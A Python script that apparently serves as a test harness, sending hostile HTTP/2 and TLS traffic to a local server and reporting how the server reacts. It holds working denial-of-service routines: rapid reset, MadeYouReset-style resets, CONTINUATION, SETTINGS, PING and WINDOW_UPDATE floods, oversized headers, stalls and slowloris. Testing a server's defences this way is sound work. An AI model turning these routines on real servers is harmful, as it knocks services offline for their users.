#!/usr/bin/env python3
"""Hostile HTTP/2 clients, frame by frame (hyperframe + hpack, not a compliant client).

    h2_abuse.py ATTACK --port P --ca CA --cert CERT --key KEY [--count N]

Opens an mTLS connection with ALPN h2, sends the attack, reads until the server closes
or --wait seconds pass, and prints one JSON line: the GOAWAY it received (error code,
debug data), whether the server closed the connection, and how long that took.
`slowloris` instead holds --count connections that send one byte a second without
ever finishing the TLS handshake, reconnecting when cut, for --seconds.
"""
import argparse
import json
import socket
import ssl
import sys
import time

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


class Conn:
    def __init__(self, args):
        ctx = ssl.create_default_context(cafile=args.ca)
        ctx.load_cert_chain(args.cert, args.key)
        if not args.no_alpn:
            ctx.set_alpn_protocols(["h2"])
        raw = socket.create_connection(("127.0.0.1", args.port), timeout=5)
        self.sock = ctx.wrap_socket(raw, server_hostname="localhost")
        if not args.no_alpn:
            assert self.sock.selected_alpn_protocol() == "h2"
        self.buf = b""
        self.goaway = None
        self.closed = False
        self.headers = 0
        self.resets = 0
        self.reset_log = []
        self.data = 0
        self.service = args.service
        self.path = args.path
        self.enc = hpack.Encoder()
        self.sock.sendall(PREFACE + SettingsFrame(0).serialize())
        self.t0 = time.monotonic()
        self.closed_after = None

    def request_block(self, extra=(), service=None, path=None):
        return self.enc.encode(
            [
                (":method", "GET"),
                (":scheme", "https"),
                (":path", path or self.path),
                (":authority", "localhost"),
                ("fed-service", service or self.service),
                *extra,
            ]
        )

    def _frames(self):
        while len(self.buf) >= 9:
            n = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + n:
                return
            kind, flags = self.buf[3], self.buf[4]
            self._sid = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
            payload = self.buf[9 : 9 + n]
            self.buf = self.buf[9 + n :]
            if kind == 0x7 and self.goaway is None:
                self.goaway = {
                    "last_stream": int.from_bytes(payload[:4], "big") & 0x7FFFFFFF,
                    "code": int.from_bytes(payload[4:8], "big"),
                    "debug": payload[8:].decode("utf-8", "replace"),
                }
            elif kind == 0x1:
                self.headers += 1
            elif kind == 0x3:
                self.resets += 1
                self.reset_log.append(
                    [self._sid, int.from_bytes(payload[:4], "big"), round(time.monotonic() - self.t0, 3)]
                )
            elif kind == 0x0:
                self.data += n
            elif kind == 0x4 and not flags & 0x1:
                # acknowledge the server's settings, as a client must
                self.send(SettingsFrame(0, flags=["ACK"]).serialize(), drain=False)

    def drain(self, wait=0.0):
        """Reads what is there (for up to `wait` seconds); notes EOF."""
        if self.closed:
            return
        deadline = time.monotonic() + wait
        while True:
            left = deadline - time.monotonic()
            self.sock.settimeout(max(left, 0.0005))
            try:
                chunk = self.sock.recv(65536)
            except (socket.timeout, ssl.SSLWantReadError):
                if time.monotonic() >= deadline:
                    return
                continue
            except (ConnectionError, ssl.SSLError, OSError):
                chunk = b""
            if not chunk:
                self.closed = True
                self.closed_after = time.monotonic() - self.t0
                return
            self.buf += chunk
            self._frames()

    def send(self, data, drain=True):
        if self.closed:
            return False
        self.sock.settimeout(5)
        try:
            for i in range(0, len(data), 16384):
                self.sock.sendall(data[i : i + 16384])
                if drain:
                    self.drain()
                if self.closed:
                    return False
        except (ConnectionError, ssl.SSLError, OSError, socket.timeout):
            self.closed = True
            self.closed_after = time.monotonic() - self.t0
            return False
        return True

    def wait_close(self, seconds):
        deadline = time.monotonic() + seconds
        while not self.closed and time.monotonic() < deadline:
            self.drain(0.05)

    def result(self, attack, sent):
        return {
            "attack": attack,
            "sent": sent,
            "goaway": self.goaway,
            "closed": self.closed,
            "closed_after": self.closed_after,
            "responses": self.headers,
            "server_resets": self.resets,
            "reset_log": self.reset_log,
            "data": self.data,
        }


def rapid_reset(c, n, paced):
    sent = 0
    for i in range(n):
        sid = 2 * i + 1
        f = HeadersFrame(sid, c.request_block(), flags=["END_HEADERS", "END_STREAM"])
        r = RstStreamFrame(sid, error_code=8)
        if paced:
            # the stream is (most likely) accepted before its reset arrives
            if not c.send(f.serialize()):
                break
            time.sleep(0.002)
            if not c.send(r.serialize()):
                break
        elif not c.send(f.serialize() + r.serialize(), drain=False):
            break
        sent += 2
    return sent


def stall(c, n, seconds):
    """Asks for n answers and reads none of them: no WINDOW_UPDATE is ever sent, so
    every stream (and the connection) stays at the client's initial window."""
    for i in range(n):
        c.send(
            HeadersFrame(2 * i + 1, c.request_block(), flags=["END_HEADERS", "END_STREAM"]).serialize(),
            drain=False,
        )
    t = time.monotonic() + seconds
    while not c.closed and time.monotonic() < t:
        c.drain(0.05)
    return n


def started_resets(c, n, pad, how, denied=None):
    """Streams that reach the service and are then reset: by the client's RST_STREAM,
    or by frames that make the server reset them (MadeYouReset, CVE-2025-8671): a
    WINDOW_UPDATE overflowing the stream's window, DATA on a stream the client already
    ended, a stream made to depend on itself. Each is padded with `pad` cheap streams
    (an unknown service: answered 404 at once; with `denied`, every other one a service
    no rule lets the caller reach: 403) that are reset too."""
    sent = 0
    sid = 1
    for i in range(n):
        for j in range(pad):
            service = denied if denied and j % 2 else "nope"
            cheap = HeadersFrame(
                sid, c.request_block(service=service), flags=["END_HEADERS", "END_STREAM"]
            ).serialize() + RstStreamFrame(sid, error_code=8).serialize()
            if not c.send(cheap, drain=False):
                return sent
            sid += 2
        end = ["END_HEADERS", "END_STREAM"] if how in ("rst", "data_after_end", "window_overflow", "self_priority") else ["END_HEADERS"]
        if not c.send(HeadersFrame(sid, c.request_block(), flags=end).serialize()):
            return sent
        # the service sees the call before the reset
        time.sleep(0.02)
        if how == "rst":
            f = RstStreamFrame(sid, error_code=8)
        elif how == "window_overflow":
            f = WindowUpdateFrame(sid, window_increment=0x7FFFFFFF)
        elif how == "data_after_end":
            f = DataFrame(sid, b"late")
        elif how == "self_priority":
            f = PriorityFrame(sid, depends_on=sid, stream_weight=16)
        else:
            sys.exit("unknown reset " + how)
        if not c.send(f.serialize()):
            return sent
        sent += 1
        sid += 2
    return sent


def continuation_flood(c, n):
    block = c.request_block()
    sent = 0
    if not c.send(HeadersFrame(1, block).serialize()):
        return sent
    enc = hpack.Encoder()
    for i in range(n):
        frag = enc.encode([("x-flood-%d" % i, "v")])
        if not c.send(ContinuationFrame(1, frag).serialize()):
            break
        sent += 1
    return sent


def oversized_headers(c, kib):
    # one legal request start, then a header block that keeps growing in 16 KiB frames
    block = c.request_block() + hpack.Encoder().encode(
        [("x-big", "a" * (kib * 1024))], huffman=False
    )
    frames = [block[i : i + 16384] for i in range(0, len(block), 16384)]
    data = HeadersFrame(1, frames[0]).serialize()
    for i, frag in enumerate(frames[1:]):
        last = i == len(frames) - 2
        data += ContinuationFrame(1, frag, flags=["END_HEADERS"] if last else []).serialize()
    c.send(data)
    return len(frames)


def repeated(c, frame_bytes, n, batch=50):
    sent = 0
    for i in range(0, n, batch):
        k = min(batch, n - i)
        if not c.send(frame_bytes * k):
            break
        sent += k
    return sent


def slowloris(args):
    """Connections that trickle a TLS ClientHello one byte a second, reconnecting."""
    hello = bytes.fromhex("16030100f4010000f00303") + b"\x00" * 200
    socks = {}
    opened = cut = 0
    t_end = time.monotonic() + args.seconds
    while time.monotonic() < t_end:
        while len(socks) < args.count:
            try:
                s = socket.create_connection(("127.0.0.1", args.port), timeout=2)
            except OSError:
                break
            s.setblocking(False)
            socks[s] = 0
            opened += 1
        for s in list(socks):
            pos = socks[s]
            try:
                if s.recv(1024) == b"":
                    raise ConnectionError
            except BlockingIOError:
                pass
            except OSError:
                s.close()
                del socks[s]
                cut += 1
                continue
            try:
                s.send(hello[pos : pos + 1])
                socks[s] = (pos + 1) % len(hello)
            except OSError:
                s.close()
                del socks[s]
                cut += 1
        time.sleep(1)
    for s in socks:
        s.close()
    return {"attack": "slowloris", "opened": opened, "cut_by_server": cut}


def h1_stall(args):
    """HTTP/1.1: asks for an answer, reads nothing for --seconds, then reads what is
    there until the server closes or --wait passes."""
    ctx = ssl.create_default_context(cafile=args.ca)
    ctx.load_cert_chain(args.cert, args.key)
    ctx.set_alpn_protocols(["http/1.1"])
    raw = socket.create_connection(("127.0.0.1", args.port), timeout=5)
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 65536)
    s = ctx.wrap_socket(raw, server_hostname="localhost")
    s.sendall(
        f"GET {args.path} HTTP/1.1\r\nhost: localhost\r\nfed-service: {args.service}\r\n\r\n".encode()
    )
    time.sleep(args.seconds)
    got, closed = 0, False
    t = time.monotonic() + args.wait
    s.settimeout(1)
    while time.monotonic() < t:
        try:
            chunk = s.recv(65536)
        except socket.timeout:
            continue
        except (ConnectionError, ssl.SSLError, OSError):
            closed = True
            break
        if not chunk:
            closed = True
            break
        got += len(chunk)
    return {"attack": "h1_stall", "bytes": got, "closed": closed}


def main():
    p = argparse.ArgumentParser()
    p.add_argument("attack")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--ca")
    p.add_argument("--cert")
    p.add_argument("--key")
    p.add_argument("--count", type=int, default=1000)
    p.add_argument("--seconds", type=float, default=10)
    p.add_argument("--wait", type=float, default=5)
    p.add_argument("--service", default="orders")
    p.add_argument("--path", default="/x")
    p.add_argument("--pad", type=int, default=0)
    p.add_argument("--pad-denied", help="a service padding streams are denied, besides unknown ones")
    # HTTP/2 by its preface alone, with no ALPN in the handshake
    p.add_argument("--no-alpn", action="store_true")
    args = p.parse_args()
    if args.attack == "slowloris":
        print(json.dumps(slowloris(args)))
        return
    if args.attack == "h1_stall":
        print(json.dumps(h1_stall(args)))
        return
    c = Conn(args)
    c.drain(0.1)
    a, n = args.attack, args.count
    if a == "rapid_reset":
        sent = rapid_reset(c, n, paced=True)
    elif a == "rapid_reset_burst":
        sent = rapid_reset(c, n, paced=False)
    elif a == "stall":
        sent = stall(c, n, args.seconds)
        print(json.dumps(c.result(a, sent)))
        return
    elif a.startswith("started_"):
        sent = started_resets(c, n, args.pad, a[len("started_"):], args.pad_denied)
    elif a == "continuation_flood":
        sent = continuation_flood(c, n)
    elif a == "oversized_headers":
        sent = oversized_headers(c, n)
    elif a == "settings_flood":
        sent = repeated(c, SettingsFrame(0, settings={0x3: 100}).serialize(), n)
    elif a == "ping_flood":
        sent = repeated(c, PingFrame(0, opaque_data=b"abuse!!!").serialize(), n)
    elif a == "window_update_flood":
        sent = repeated(c, WindowUpdateFrame(0, window_increment=1).serialize(), n)
    elif a == "window_overflow":
        sent = repeated(c, WindowUpdateFrame(0, window_increment=0x7FFFFFFF).serialize(), 2)
    elif a == "priority_flood":
        sent = repeated(c, PriorityFrame(1, depends_on=0, stream_weight=16).serialize(), n)
    elif a == "empty_frames":
        c.send(HeadersFrame(1, c.request_block(), flags=["END_HEADERS"]).serialize())
        sent = repeated(c, DataFrame(1, b"").serialize(), n)
    elif a == "ping_ack_flood":
        # acknowledgements of PINGs the server never sent
        sent = repeated(c, PingFrame(0, opaque_data=b"unasked!", flags=["ACK"]).serialize(), n)
    elif a == "trickled_headers":
        # a whole request in one HEADERS frame, its payload sent a byte every 0.3 s
        frame = HeadersFrame(
            1, c.request_block(), flags=["END_HEADERS", "END_STREAM"]
        ).serialize()
        sent = 0
        if c.send(frame[:10]):
            for b in frame[10:]:
                c.drain(0.3)
                if not c.send(bytes([b])):
                    break
                sent += 1
    elif a == "slow_headers":
        # a header block that starts and never ends
        c.send(HeadersFrame(1, c.request_block()).serialize())
        sent = 1
    elif a == "polite":
        # the control: a few ordinary requests on one connection, then a clean close
        sent = 0
        for i in range(n):
            c.send(
                HeadersFrame(
                    2 * i + 1, c.request_block(), flags=["END_HEADERS", "END_STREAM"]
                ).serialize()
            )
            sent += 1
        t = time.monotonic() + args.wait
        while c.headers < n and not c.closed and time.monotonic() < t:
            c.drain(0.05)
        print(json.dumps(c.result(a, sent)))
        return
    else:
        sys.exit("unknown attack " + a)
    c.wait_close(args.wait)
    print(json.dumps(c.result(a, sent)))


if __name__ == "__main__":
    main()
